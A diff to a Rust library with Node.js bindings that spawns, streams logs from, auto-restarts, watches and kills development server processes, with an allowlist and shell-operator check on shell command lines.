+        let mut name = String::new();
+        while let Some(&next) = chars.peek() {
+            let valid = next == '_' || next.is_ascii_alphanumeric();
+            if !valid || (name.is_empty() && next.is_ascii_digit()) {
+                break;
+            }
+            name.push(next);
+            chars.next();
+        }
+
+        if name.is_empty() {
+            output.push('$');
+        } else {
+            output.push_str(&lookup(&name).unwrap_or_default());
+        }
+    }
+
+    output
+}
+
+/// Spawn a development server process
+///
+/// # Arguments
+/// * `project_path` - Working directory for the process
+/// * `command` - Command to execute (e.g., "npm", "cargo", "python")
+/// * `args` - Array of command arguments
+/// * `options` - Optional spawn settings (see `SpawnOptions`)
+///
+/// # Returns
+/// * `Result<ProcessHandle>` - Handle to the spawned process including PID
+///
+/// # Example
+/// ```
+/// let handle = spawn_dev_server(
+///     "/path/to/project".to_string(),
+///     "npm".to_string(),
+///     vec!["run".to_string(), "dev".to_string()],
+///     None,
+/// )?;
+/// ```
+#[napi]
+pub fn spawn_dev_server(
+    project_path: String,
+    command: String,
+    args: Vec<String>,
+    options: Option<SpawnOptions>,
+) -> Result<ProcessHandle> {
+    // Validate project path exists
+    validate_project_path(&project_path)?;
+    check_command_allowed(&command)?;
+
+    let options = options.unwrap_or_default();
+    let args = options.expand_args(args);
+
+    spawn_managed(SpawnSpec {
+        project_path,
+        command,
+        args,
+        port: 0,
+        on_log: None,
+        on_event: None,
+        use_pty: false,
+        ansi_mode: AnsiMode::Raw,
+        env: options.env_vars(),
+        clear_env: options.clear_env.unwrap_or(false),
+    })
+}
+
+/// Shell program and arguments that run `command_line`, using the user's default shell
+/// (sh, bash, zsh and fish all take `-c`)
+fn shell_invocation(command_line: &str) -> (String, Vec<String>) {
+    #[cfg(windows)]
+    let flag = "/C";
+    #[cfg(not(windows))]
+    let flag = "-c";
+
+    (crate::system_utils::get_default_shell(), vec![flag.to_string(), command_line.to_string()])
+}
+
+/// Spawn a development server from a full command line run through the system shell
+///
+/// # Arguments
+/// * `project_path` - Working directory for the process
+/// * `command_line` - Command line as typed in a terminal (e.g. "npm run dev -- --host")
+/// * `options` - Optional spawn settings (see `SpawnOptions`); `expand_env` only applies to
+///   `env` values since the shell expands the command line itself
+///
+/// # Returns
+/// * `Result<ProcessHandle>` - Handle to the shell process including PID
+///
+/// # Platform Handling
+/// * Unix/Linux/macOS: `$SHELL -c <command_line>`, falling back to `/bin/sh`
+/// * Windows: `%ComSpec% /C <command_line>`, which resolves `npm` to `npm.cmd`
+///
+/// When a command allowlist is set, the first word of `command_line` must be allowed and
+/// the line may not contain shell operators (`;`, `&`, `|`, backticks, `$(`, `>`, `<` or
+/// newlines), so an allowed program can't be chained into one that isn't.
+#[napi]
+pub fn spawn_dev_server_shell(
+    project_path: String,
+    command_line: String,
+    options: Option<SpawnOptions>,
+) -> Result<ProcessHandle> {
+    validate_project_path(&project_path)?;
+
+    if command_line.trim().is_empty() {
+        return Err(Error::new(Status::InvalidArg, "Command line must not be empty"));
+    }
+    check_shell_command_allowed(&command_line)?;
+
+    let options = options.unwrap_or_default();
+    let (shell, args) = shell_invocation(&command_line);
+
+    spawn_managed(SpawnSpec {
+        project_path,
+        command: shell,
+        args,
+        port: 0,
+        on_log: None,
+        on_event: None,
+        use_pty: false,
+        ansi_mode: AnsiMode::Raw,
+        env: options.env_vars(),
+        clear_env: options.clear_env.unwrap_or(false),
+    })
+}
+
+/// Spawn a development server process with live log streaming
+///
+/// # Arguments
+/// * `project_path` - Working directory for the process
+/// * `command` - Command to execute (e.g., "npm", "cargo", "python")
+/// * `args` - Array of command arguments
+/// * `port` - Port number to set via PORT environment variable
+/// * `on_log` - Callback function for streaming logs; receives styled segments as a third
+///   argument when `ansi_mode` is "parse"
+/// * `on_event` - Optional callback receiving a `ServerEvent` when the server prints its URL
+/// * `options` - Optional spawn settings (see `SpawnOptions`); with `use_pty`, stdout and
+///   stderr share one terminal and every line is reported with `isError: false`
+///
+/// # Returns
+/// * `Result<ProcessHandle>` - Handle to the spawned process including PID
+#[napi(ts_args_type = "projectPath: string, command: string, args: Array<string>, port: number, onLog: (log: string, isError: boolean, segments?: Array<AnsiSegment>) => void, onEvent?: (event: ServerEvent) => void, options?: SpawnOptions")]
+pub fn spawn_dev_server_with_logs(
+    project_path: String,
+    command: String,
+    args: Vec<String>,
+    port: u32,
+    on_log: JsFunction,
+    on_event: Option<JsFunction>,
+    options: Option<SpawnOptions>,
+) -> Result<ProcessHandle> {
+    // Validate project path exists
+    validate_project_path(&project_path)?;
+    check_command_allowed(&command)?;
+
+    let options = options.unwrap_or_default();
+    let args = options.expand_args(args);
+    let ansi_mode = options.ansi_mode()?;
+
+    // Create threadsafe function for logging
+    let tsfn: ThreadsafeFunction<LogData, ErrorStrategy::Fatal> = on_log
+        .create_threadsafe_function(0, |ctx| {
+            let log_data: LogData = ctx.value;
+            let log_str = ctx.env.create_string(&log_data.log)?;
+            let is_error_bool = ctx.env.get_boolean(log_data.is_error)?;
+            let mut args = vec![log_str.into_unknown(), is_error_bool.into_unknown()];
+            if let Some(segments) = &log_data.segments {
+                args.push(ctx.env.to_js_value(segments)?);
+            }
+            Ok(args)
+        })?;
+
+    let on_log: LogSink = Arc::new(move |log_data| {
+        // Use blocking mode to ensure logs are delivered
+        let _ = tsfn.call(log_data, ThreadsafeFunctionCallMode::Blocking);
+    });
+
+    let on_event = match on_event {
+        Some(callback) => {
+            let tsfn: ThreadsafeFunction<ServerEvent, ErrorStrategy::Fatal> =
+                callback.create_threadsafe_function(0, |ctx| Ok(vec![ctx.value]))?;
+            let on_event: EventSink = Arc::new(move |event| {
+                tsfn.call(event, ThreadsafeFunctionCallMode::NonBlocking);
+            });
+            Some(on_event)
+        }
+        None => None,
+    };
+
+    spawn_managed(SpawnSpec {
+        project_path,
+        command,
+        args,
+        port,
+        on_log: Some(on_log),
+        on_event,
+        use_pty: options.use_pty.unwrap_or(false),
+        ansi_mode,
+        env: options.env_vars(),
+        clear_env: options.clear_env.unwrap_or(false),
+    })
+}
+
+/// Milliseconds since the Unix epoch, used to timestamp output lines
+fn unix_time_ms() -> f64 {
+    SystemTime::now()
+        .duration_since(SystemTime::UNIX_EPOCH)
+        .map(|elapsed| elapsed.as_secs_f64() * 1000.0)
+        .unwrap_or(0.0)
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct LogLine {
+    /// "stdout" or "stderr"
+    pub stream: String,
+    pub text: String,
+    /// When the line was read, in milliseconds since the Unix epoch
+    pub timestamp_ms: f64,
+}
+
+/// Receives each line of a process's output as a `LogLine`
+type OutputSink = Arc<dyn Fn(LogLine) + Send + Sync>;
+
+/// Adapt an `OutputSink` to the `LogSink` the reader threads feed
+fn log_line_sink(on_output: OutputSink) -> LogSink {
+    Arc::new(move |log_data: LogData| {
+        on_output(LogLine {
+            stream: if log_data.is_error { "stderr" } else { "stdout" }.to_string(),
+            text: log_data.log,
+            timestamp_ms: unix_time_ms(),
+        })
+    })
+}
+
+/// Spawn a development server and stream each line of its output
+///
+/// # Arguments
+/// * `project_path` - Working directory for the process
+/// * `command` - Command to execute (e.g., "npm", "cargo", "python")
+/// * `args` - Array of command arguments
+/// * `on_output` - Callback receiving a `LogLine` for every line printed on stdout or stderr
+///
+/// # Returns
+/// * `Result<ProcessHandle>` - Handle to the spawned process including PID
+///
+/// Unlike `spawn_dev_server_with_logs`, lines arrive as a single object carrying the
+/// stream name and the time the line was read, with ANSI sequences left untouched.
+#[napi(ts_args_type = "projectPath: string, command: string, args: Array<string>, onOutput: (line: LogLine) => void")]
+pub fn spawn_dev_server_with_output(
+    project_path: String,
+    command: String,
+    args: Vec<String>,
+    on_output: JsFunction,
+) -> Result<ProcessHandle> {
+    validate_project_path(&project_path)?;
+    check_command_allowed(&command)?;
+
+    let tsfn: ThreadsafeFunction<LogLine, ErrorStrategy::Fatal> =
+        on_output.create_threadsafe_function(0, |ctx| Ok(vec![ctx.value]))?;
+    let on_output: OutputSink = Arc::new(move |line| {
+        // Use blocking mode to ensure lines are delivered
+        let _ = tsfn.call(line, ThreadsafeFunctionCallMode::Blocking);
+    });
+
+    spawn_managed(SpawnSpec {
+        project_path,
+        command,
+        args,
+        port: 0,
+        on_log: Some(log_line_sink(on_output)),
+        on_event: None,
+        use_pty: false,
+        ansi_mode: AnsiMode::Raw,
+        env: Vec::new(),
+        clear_env: false,
+    })
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct CombinedLogLine {
+    /// PID of the managed process that printed the line
+    pub pid: u32,
+    pub log: String,
+    pub is_error: bool,
+    /// When the line was read, in milliseconds since the Unix epoch
+    pub timestamp_ms: f64,
+}
+
+/// Receives lines from every process of a combined-output subscription
+type CombinedSink = Arc<dyn Fn(CombinedLogLine) + Send + Sync>;
+
+struct OutputSubscription {
+    pids: Vec<u32>,
+    sink: CombinedSink,
+}
+
+lazy_static! {
+    /// Active `subscribe_combined_output` subscriptions, keyed by subscription id
+    static ref OUTPUT_SUBSCRIPTIONS: Mutex<HashMap<u32, OutputSubscription>> = Mutex::new(HashMap::new());
+}
+
+static NEXT_SUBSCRIPTION_ID: AtomicU32 = AtomicU32::new(1);
+
+/// Forward a line to every subscription following `pid`
+///
+/// Lines are delivered while holding the subscription lock, so each subscriber sees
+/// one stream in the order lines were read, with non-decreasing timestamps.
+fn publish_output(pid: u32, log_data: &LogData) {
+    let subscriptions = match OUTPUT_SUBSCRIPTIONS.lock() {
+        Ok(subscriptions) => subscriptions,
+        Err(_) => return,
+    };
+
+    if subscriptions.is_empty() {
+        return;
+    }
+
+    let timestamp_ms = unix_time_ms();
+
+    for subscription in subscriptions.values().filter(|s| s.pids.contains(&pid)) {
+        (subscription.sink)(CombinedLogLine {
+            pid,
+            log: log_data.log.clone(),
+            is_error: log_data.is_error,
+            timestamp_ms,
+        });
+    }
+}
+
+fn subscribe_output(pids: Vec<u32>, sink: CombinedSink) -> Result<u32> {
+    {
+        let processes = lock_processes()?;
+        if let Some(pid) = pids.iter().find(|pid| !processes.contains_key(pid)) {
+            return Err(Error::new(
+                Status::InvalidArg,
+                format!("Process {} is not managed", pid),
+            ));
+        }
+    }
+
+    let subscription_id = NEXT_SUBSCRIPTION_ID.fetch_add(1, AtomicOrdering::SeqCst);
+    OUTPUT_SUBSCRIPTIONS
+        .lock()
+        .map_err(|_| Error::new(Status::GenericFailure, "Output subscription lock poisoned"))?
+        .insert(subscription_id, OutputSubscription { pids, sink });
+
+    Ok(subscription_id)
+}
+
+/// Follow the output of several managed processes as one stream
+///
+/// # Arguments
+/// * `pids` - PIDs of processes spawned by the spawn functions
+/// * `callback` - Invoked with a `CombinedLogLine` for each line any of them prints
+///
+/// # Returns
+/// * `Result<u32>` - Subscription id for `unsubscribe_combined_output`
+///
+/// # Behavior
+/// Lines arrive in the order they were read across all processes, each tagged with its
+/// source PID. Only output printed after subscribing is delivered.
+#[napi(ts_args_type = "pids: Array<number>, callback: (line: CombinedLogLine) => void")]
+pub fn subscribe_combined_output(pids: Vec<u32>, callback: JsFunction) -> Result<u32> {
+    let tsfn: ThreadsafeFunction<CombinedLogLine, ErrorStrategy::Fatal> =
+        callback.create_threadsafe_function(0, |ctx| Ok(vec![ctx.value]))?;
+
+    subscribe_output(
+        pids,
+        Arc::new(move |line| {
+            tsfn.call(line, ThreadsafeFunctionCallMode::NonBlocking);
+        }),
+    )
+}
+
+/// Stop a subscription created by `subscribe_combined_output`
+///
+/// # Arguments
+/// * `subscription_id` - Id returned by `subscribe_combined_output`
+///
+/// # Returns
+/// * `Result<bool>` - true if the subscription existed and was removed
+#[napi]
+pub fn unsubscribe_combined_output(subscription_id: u32) -> Result<bool> {
+    let removed = OUTPUT_SUBSCRIPTIONS
+        .lock()
+        .map_err(|_| Error::new(Status::GenericFailure, "Output subscription lock poisoned"))?
+        .remove(&subscription_id);
+
+    Ok(removed.is_some())
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct RestartEvent {
+    pub previous_pid: u32,
+    /// PID of the replacement process, or 0 if it couldn't be spawned
+    pub new_pid: u32,
+    pub restart_count: u32,
+    /// Exit code of the crashed process, or None if it was killed by a signal
+    pub exit_code: Option<i32>,
+    /// Why the restart failed; no further restarts are attempted after an error
+    pub error: Option<String>,
+}
+
+/// Receives every restart (or failed restart) of a watched process
+type RestartSink = Box<dyn Fn(RestartEvent) + Send>;
+
+/// Interval at which the watchdog checks a process for exit
+const WATCHDOG_INTERVAL: Duration = Duration::from_millis(500);
+
+fn autorestart(pid: u32, max_restarts: u32, on_restart: RestartSink) -> Result<()> {
+    // The watchdog removes the entry itself once the process exits
+    if !observe_managed(&mut *lock_processes()?, pid) {
+        return Err(Error::new(
+            Status::InvalidArg,
+            format!("Process {} is not managed", pid),
+        ));
+    }
+
+    thread::spawn(move || {
+        let mut current_pid = pid;
+        let mut restart_count = 0;
+
+        loop {
+            thread::sleep(WATCHDOG_INTERVAL);
+
+            let (spec, status) = {
+                let mut processes = match PROCESSES.lock() {
+                    Ok(processes) => processes,
+                    Err(_) => break,
+                };
+
+                let process = match processes.get_mut(&current_pid) {
+                    Some(process) => process,
+                    None => break, // No longer managed
+                };
+
+                let status = match process.child.try_wait() {
+                    Ok(Some(status)) => status,
+                    Ok(None) => continue, // Still running
+                    Err(_) => break,
+                };
+
+                // The exited process is done with either way, so don't leave it in the registry
+                let process = match processes.remove(&current_pid) {
+                    Some(process) => process,
+                    None => break,
+                };
+
+                if process.stop_requested || status.success() || restart_count >= max_restarts {
+                    break;
+                }
+
+                (process.spec, status)
+            };
+
+            // Spawn without holding the registry lock, which other calls are waiting on
+            restart_count += 1;
+            let new_child = match spawn_child(&spec) {
+                Ok(child) => child,
+                Err(e) => {
+                    on_restart(RestartEvent {
+                        previous_pid: current_pid,
+                        new_pid: 0,
+                        restart_count,
+                        exit_code: status.code(),
+                        error: Some(e.reason.clone()),
+                    });
+                    break;
+                }
+            };
+
+            let event = RestartEvent {
+                previous_pid: current_pid,
+                new_pid: new_child.id(),
+                restart_count,
+                exit_code: status.code(),
+                error: None,
+            };
+
+            current_pid = event.new_pid;
+            match PROCESSES.lock() {
+                Ok(mut processes) => {
+                    processes.insert(
+                        current_pid,
+                        ManagedProcess {
+                            child: new_child,
+                            spec,
+                            stop_requested: false,
+                            started_at_ms: unix_time_ms(),
+                            observers: 1,
+                        },
+                    );
+                }
+                Err(_) => break,
+            }
+
+            on_restart(event);
+        }
+    });
+
+    Ok(())
+}
+
+/// Automatically restart a managed process when it exits unexpectedly
+///
+/// # Arguments
+/// * `pid` - PID of a process spawned by `spawn_dev_server` or `spawn_dev_server_with_logs`
+/// * `max_restarts` - Maximum number of restarts before giving up
+/// * `on_restart` - Callback invoked with a `RestartEvent` after each restart, or with
+///   `error` set if the process couldn't be respawned
+///
+/// # Returns
+/// * `Result<()>` - Error if the PID is not a managed process
+///
+/// # Behavior
+/// A watchdog thread polls the process. A non-zero exit code or termination by a
+/// signal respawns it with the original parameters (including log streaming). A
+/// clean exit (code 0), a stop through `kill_process` or a failed respawn ends the
+/// watchdog. Exited processes are removed from the registry as the watchdog sees them.
+#[napi(ts_args_type = "pid: number, maxRestarts: number, onRestart: (event: RestartEvent) => void")]
+pub fn enable_autorestart(pid: u32, max_restarts: u32, on_restart: JsFunction) -> Result<()> {
+    let tsfn: ThreadsafeFunction<RestartEvent, ErrorStrategy::Fatal> =
+        on_restart.create_threadsafe_function(0, |ctx| Ok(vec![ctx.value]))?;
+
+    autorestart(
+        pid,
+        max_restarts,
+        Box::new(move |event| {
+            tsfn.call(event, ThreadsafeFunctionCallMode::NonBlocking);
+        }),
+    )
+}
+
+/// Kill a process by PID with cross-platform support
+///
+/// # Arguments
+/// * `pid` - Process ID to terminate
+///
+/// # Returns
+/// * `Result<()>` - Success or error
 ///
 /// # Platform Handling
 /// * Unix/Linux/macOS: Uses SIGTERM signal
 /// * Windows: Uses TerminateProcess API
 #[napi]
 pub fn kill_process(pid: u32) -> Result<()> {
+    validate_pid(pid)?;
+
+    // Stop watchdogs from restarting a process that is being stopped on purpose
+    if let Some(process) = lock_processes()?.get_mut(&pid) {
+        process.stop_requested = true;
+    }
+
+    #[cfg(unix)]
+    {
+        use nix::sys::signal::{self, Signal};
+        use nix::unistd::Pid;
+
+        let pid = Pid::from_raw(pid as i32);
+
+        // Try SIGTERM first (graceful shutdown)
+        match signal::kill(pid, Signal::SIGTERM) {
+            Ok(_) => Ok(()),
+            Err(e) => {
+                // If SIGTERM fails, try SIGKILL (force kill)
+                match signal::kill(pid, Signal::SIGKILL) {
+                    Ok(_) => Ok(()),
+                    Err(_) => Err(Error::new(
+                        Status::GenericFailure,
+                        format!("Failed to kill process {}: {}", pid, e),
+                    )),
+                }
+            }
+        }
+    }
+
+    #[cfg(windows)]
+    {
+        use std::process::Command;
+
+        // Use taskkill on Windows
+        let output = Command::new("taskkill")
+            .args(&["/PID", &pid.to_string(), "/F", "/T"])
+            .output()
+            .map_err(|e| {
+                Error::new(
+                    Status::GenericFailure,
+                    format!("Failed to execute taskkill: {}", e),
+                )
+            })?;
+
+        if output.status.success() {
+            Ok(())
+        } else {
+            let stderr = String::from_utf8_lossy(&output.stderr);
+            Err(Error::new(
+                Status::GenericFailure,
+                format!("Failed to kill process {}: {}", pid, stderr),
+            ))
+        }
+    }
+
+    #[cfg(not(any(unix, windows)))]
+    {
+        Err(Error::new(
+            Status::GenericFailure,
+            "Process killing not supported on this platform",
+        ))
+    }
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct KillResult {
+    pub pid: u32,
+    pub success: bool,
+    /// "graceful" or "forced", as reported by `kill_process_graceful`, when the kill succeeded
+    pub method: Option<String>,
+    /// Why the kill failed, when it did
+    pub error: Option<String>,
+}
+
+/// Default time each process gets to exit before `kill_processes` force-kills it
+const KILL_PROCESSES_DEFAULT_TIMEOUT_MS: u32 = 5000;
+
+/// Kill several processes, reporting the outcome for each
+///
+/// # Arguments
+/// * `pids` - Process IDs to terminate
+/// * `timeout_ms` - How long each process gets to exit before it is force-killed
+///   (default: 5000)
+///
+/// # Returns
+/// * `Vec<KillResult>` - One result per PID, in input order. Each PID goes through
+///   `kill_process_graceful` on its own thread, so the timeouts run concurrently, and a
+///   failure doesn't stop the remaining kills
+#[napi]
+pub fn kill_processes(pids: Vec<u32>, timeout_ms: Option<u32>) -> Vec<KillResult> {
+    let timeout_ms = timeout_ms.unwrap_or(KILL_PROCESSES_DEFAULT_TIMEOUT_MS);
+
+    thread::scope(|scope| {
+        let handles: Vec<_> = pids
+            .iter()
+            .map(|&pid| scope.spawn(move || kill_process_graceful(pid, timeout_ms)))
+            .collect();
+
+        pids.iter()
+            .zip(handles)
+            .map(|(&pid, handle)| match handle.join() {
+                Ok(Ok(result)) => KillResult {
+                    pid,
+                    success: true,
+                    method: Some(result.method),
+                    error: None,
+                },
+                Ok(Err(e)) => KillResult {
+                    pid,
+                    success: false,
+                    method: None,
+                    error: Some(e.reason),
+                },
+                Err(_) => KillResult {
+                    pid,
+                    success: false,
+                    method: None,
+                    error: Some("Kill thread panicked".to_string()),
+                },
+            })
+            .collect()
+    })
+}
+
+/// How long a restarted process gets to exit after SIGTERM before it is force-killed
+const RESTART_KILL_TIMEOUT: Duration = Duration::from_secs(5);
+
+/// Wait for a managed process to exit, reaping it. Returns false on timeout.
+fn wait_for_managed_exit(pid: u32, timeout: Duration) -> Result<bool> {
+    let deadline = Instant::now() + timeout;
+
+    loop {
+        match reap_managed(&mut *lock_processes()?, pid) {
+            Some(Ok(Some(_))) | None => return Ok(true),
+            Some(_) => {}
+        }
+
+        if Instant::now() >= deadline {
+            return Ok(false);
+        }
+
+        thread::sleep(Duration::from_millis(50));
+    }
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ProcessExitStatus {
+    /// Exit code, or None if the process was killed by a signal
+    pub code: Option<i32>,
+    /// Name of the terminating signal (e.g. "SIGTERM"); not reported for PTY processes
+    pub signal: Option<String>,
+}
+
+/// Get the exit status of a managed process without blocking
+///
+/// # Arguments
+/// * `pid` - PID of a process spawned by `spawn_dev_server` or `spawn_dev_server_with_logs`
+///
+/// # Returns
+/// * `Result<Option<ProcessExitStatus>>` - None while the process is still running; the
+///   status once it has exited and been reaped. Errors if the PID is not a managed process
+///
+/// # Behavior
+/// Reading an exit status releases the process: later calls for the PID error as not
+/// managed, unless a watcher such as `watch_process_exit` still observes it.
+#[napi]
+pub fn get_process_exit_status(pid: u32) -> Result<Option<ProcessExitStatus>> {
+    let status = reap_managed(&mut *lock_processes()?, pid).ok_or_else(|| {
+        Error::new(
+            Status::InvalidArg,
+            format!("Process {} is not managed", pid),
+        )
+    })?;
+
+    let status = status.map_err(|e| {
+        Error::new(
+            Status::GenericFailure,
+            format!("Failed to check process {}: {}", pid, e),
+        )
+    })?;
+
+    Ok(status.map(|status| ProcessExitStatus {
+        code: status.code(),
+        signal: status.signal,
+    }))
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ProcessExitEvent {
+    pub pid: u32,
+    /// Exit code, or None if the process was killed by a signal
+    pub code: Option<i32>,
+    /// Whether the process was terminated by a signal rather than exiting on its own
+    pub signaled: bool,
+    /// Name of the terminating signal (e.g. "SIGKILL"); not reported for PTY processes
+    pub signal: Option<String>,
+}
+
+/// Receives the exit of a watched process, at most once
+type ExitSink = Box<dyn FnOnce(ProcessExitEvent) + Send>;
+
+/// Interval at which `watch_process_exit` checks whether the process has exited
+const EXIT_WATCH_INTERVAL: Duration = Duration::from_millis(100);
+
+fn watch_exit(pid: u32, on_exit: ExitSink) -> Result<()> {
+    if !observe_managed(&mut *lock_processes()?, pid) {
+        return Err(Error::new(
+            Status::InvalidArg,
+            format!("Process {} is not managed", pid),
+        ));
+    }
+
+    thread::spawn(move || loop {
+        let status = match PROCESSES.lock() {
+            Ok(mut processes) => match processes.get_mut(&pid).map(|process| process.child.try_wait()) {
+                Some(Ok(status)) => status,
+                // Its status can't be read
+                Some(Err(_)) => {
+                    unobserve_managed(&mut processes, pid);
+                    return;
+                }
+                // No longer managed
+                None => return,
+            },
+            Err(_) => return,
+        };
+
+        if let Some(status) = status {
+            on_exit(ProcessExitEvent {
+                pid,
+                code: status.code(),
+                signaled: status.code().is_none(),
+                signal: status.signal,
+            });
+            if let Ok(mut processes) = PROCESSES.lock() {
+                unobserve_managed(&mut processes, pid);
+            }
+            return;
+        }
+
+        thread::sleep(EXIT_WATCH_INTERVAL);
+    });
+
+    Ok(())
+}
+
+/// Call back once when a managed process exits
+///
+/// # Arguments
+/// * `pid` - PID of a process spawned by one of the `spawn_dev_server*` functions
+/// * `on_exit` - Callback receiving a `ProcessExitEvent` with the exit code or signal
+///
+/// # Returns
+/// * `Result<()>` - Error if the PID is not a managed process
+///
+/// # Behavior
+/// A background thread reaps the process and fires the callback once, immediately if it
+/// has already exited. Nothing fires if the process is removed from the registry first,
+/// e.g. when `enable_autorestart` replaces it with a new one.
+#[napi(ts_args_type = "pid: number, onExit: (event: ProcessExitEvent) => void")]
+pub fn watch_process_exit(pid: u32, on_exit: JsFunction) -> Result<()> {
+    let tsfn: ThreadsafeFunction<ProcessExitEvent, ErrorStrategy::Fatal> =
+        on_exit.create_threadsafe_function(0, |ctx| Ok(vec![ctx.value]))?;
+
+    watch_exit(
+        pid,
+        Box::new(move |event| {
+            tsfn.call(event, ThreadsafeFunctionCallMode::NonBlocking);
+        }),
+    )
+}
+
+/// Stop a managed process and spawn it again with its original parameters.
+/// The new process is observed like the old one, for `watch_and_restart`.
+fn restart_managed_process(pid: u32) -> Result<ProcessHandle> {
+    let spec = match lock_processes()?.get(&pid) {
+        Some(process) => process.spec.clone(),
+        None => {
+            return Err(Error::new(
+                Status::InvalidArg,
+                format!("Process {} is not managed", pid),
+            ))
+        }
+    };
+
+    stop_managed_process(pid)?;
+    let handle = spawn_managed(spec)?;
+    observe_managed(&mut *lock_processes()?, handle.pid);
+    Ok(handle)
+}
+
+/// Stop a managed process, force-killing it if SIGTERM isn't honored in time, and
+/// remove it from the registry
+fn stop_managed_process(pid: u32) -> Result<()> {
+    if is_process_running(pid)? {
+        let _ = kill_process(pid);
+
+        if !wait_for_managed_exit(pid, RESTART_KILL_TIMEOUT)? {
+            // Didn't honor SIGTERM in time, force it
+            if let Some(process) = lock_processes()?.get_mut(&pid) {
+                let _ = process.child.kill();
+                let _ = process.child.wait();
+            }
+        }
+    }
+
+    lock_processes()?.remove(&pid);
+    Ok(())
+}
+
+lazy_static! {
+    /// Stop flags of running `watch_and_restart` loops, keyed by watch id
+    static ref WATCHERS: Mutex<HashMap<u32, Arc<AtomicBool>>> = Mutex::new(HashMap::new());
+}
+
+static NEXT_WATCH_ID: AtomicU32 = AtomicU32::new(1);
+
+/// Interval at which `watch_and_restart` rescans watched files
+const WATCH_POLL_INTERVAL: Duration = Duration::from_millis(250);
+
+#[napi(object)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct WatchHandle {
+    pub watch_id: u32,
+    /// PID of the initially spawned process (changes on every restart)
+    pub pid: u32,
+}
+
+/// Modification time and size of every file matching the glob set
+fn snapshot_files(root: &std::path::Path, globs: &GlobSet) -> HashMap<std::path::PathBuf, (Option<SystemTime>, u64)> {
+    let mut snapshot = HashMap::new();
+
+    for entry in crate::file_analyzer::project_walker(root).flatten() {
+        if !entry.file_type().is_some_and(|t| t.is_file()) {
+            continue;
+        }
+
+        let relative = entry.path().strip_prefix(root).unwrap_or(entry.path());
+        if !globs.is_match(relative) {
+            continue;
+        }
+
+        if let Ok(metadata) = entry.metadata() {
+            snapshot.insert(relative.to_path_buf(), (metadata.modified().ok(), metadata.len()));
+        }
+    }
+
+    snapshot
+}
+
+fn watch_restart(
+    project_path: String,
+    glob_patterns: Vec<String>,
+    command: String,
+    args: Vec<String>,
+    debounce_ms: u32,
+    on_restart: Option<RestartSink>,
+) -> Result<WatchHandle> {
+    validate_project_path(&project_path)?;
+    check_command_allowed(&command)?;
+
+    let mut builder = GlobSetBuilder::new();
+    for pattern in &glob_patterns {
+        let glob = Glob::new(pattern).map_err(|e| {
+            Error::new(
+                Status::InvalidArg,
+                format!("Invalid glob pattern '{}': {}", pattern, e),
+            )
+        })?;
+        builder.add(glob);
+    }
+    let globs = builder.build().map_err(|e| {
+        Error::new(
+            Status::InvalidArg,
+            format!("Invalid glob patterns: {}", e),
+        )
+    })?;
+
+    let root = std::path::PathBuf::from(&project_path);
+    let mut snapshot = snapshot_files(&root, &globs);
+
+    let handle = spawn_managed(SpawnSpec {
+        project_path,
+        command,
+        args,
+        port: 0,
+        on_log: None,
+        on_event: None,
+        use_pty: false,
+        ansi_mode: AnsiMode::Raw,
+        env: Vec::new(),
+        clear_env: false,
+    })?;
+    // The watch loop removes the entry itself when it restarts or stops the process
+    observe_managed(&mut *lock_processes()?, handle.pid);
+
+    let watch_id = NEXT_WATCH_ID.fetch_add(1, AtomicOrdering::SeqCst);
+    let stop = Arc::new(AtomicBool::new(false));
+    WATCHERS
+        .lock()
+        .map_err(|_| Error::new(Status::GenericFailure, "Watcher registry lock poisoned"))?
+        .insert(watch_id, stop.clone());
+
+    let debounce = Duration::from_millis(debounce_ms as u64);
+    let mut current_pid = handle.pid;
+
+    thread::spawn(move || {
+        let mut last_change: Option<Instant> = None;
+        let mut restart_count = 0;
+
+        while !stop.load(AtomicOrdering::SeqCst) {
+            thread::sleep(WATCH_POLL_INTERVAL);
+
+            let current = snapshot_files(&root, &globs);
+            if current != snapshot {
+                snapshot = current;
+                last_change = Some(Instant::now());
+                continue;
+            }
+
+            let settled = last_change.is_some_and(|changed| changed.elapsed() >= debounce);
+            if !settled || stop.load(AtomicOrdering::SeqCst) {
+                continue;
+            }
+
+            last_change = None;
+            restart_count += 1;
+            let restarted = restart_managed_process(current_pid);
+            let event = RestartEvent {
+                previous_pid: current_pid,
+                new_pid: restarted.as_ref().map_or(0, |handle| handle.pid),
+                restart_count,
+                exit_code: None,
+                error: restarted.as_ref().err().map(|e| e.reason.clone()),
+            };
+            let failed = event.error.is_some();
+            if !failed {
+                current_pid = event.new_pid;
+            }
+
+            if let Some(on_restart) = &on_restart {
+                on_restart(event);
+            }
+            if failed {
+                break;
+            }
+        }
+
+        // Stopping the watch also stops the process it manages
+        let _ = stop_managed_process(current_pid);
+    });
+
+    Ok(WatchHandle {
+        watch_id,
+        pid: handle.pid,
+    })
+}
+
+/// Run a command and restart it whenever matching files change (nodemon-style)
+///
+/// # Arguments
+/// * `project_path` - Working directory for the process and root of the watched tree
+/// * `glob_patterns` - Globs relative to `project_path` (e.g. `src/**/*.ts`)
+/// * `command` - Command to execute
+/// * `args` - Array of command arguments
+/// * `debounce_ms` - Quiet period after the last change before restarting
+/// * `on_restart` - Optional callback invoked with a `RestartEvent` after each restart, or
+///   with `error` set if the process couldn't be respawned
+///
+/// # Returns
+/// * `Result<WatchHandle>` - Watch id for `stop_watch_and_restart` and the initial PID
+///
+/// # Behavior
+/// Files are polled (skipping the same directories as `analyze_project_files`), so
+/// no OS watcher limits apply. On change the process gets SIGTERM, is force-killed
+/// if it hasn't exited after a few seconds, and is spawned again. A failed respawn
+/// ends the watch.
+#[napi(
+    ts_args_type = "projectPath: string, globPatterns: string[], command: string, args: string[], debounceMs: number, onRestart?: (event: RestartEvent) => void"
+)]
+pub fn watch_and_restart(
+    project_path: String,
+    glob_patterns: Vec<String>,
+    command: String,
+    args: Vec<String>,
+    debounce_ms: u32,
+    on_restart: Option<JsFunction>,
+) -> Result<WatchHandle> {
+    let on_restart: Option<RestartSink> = match on_restart {
+        Some(callback) => {
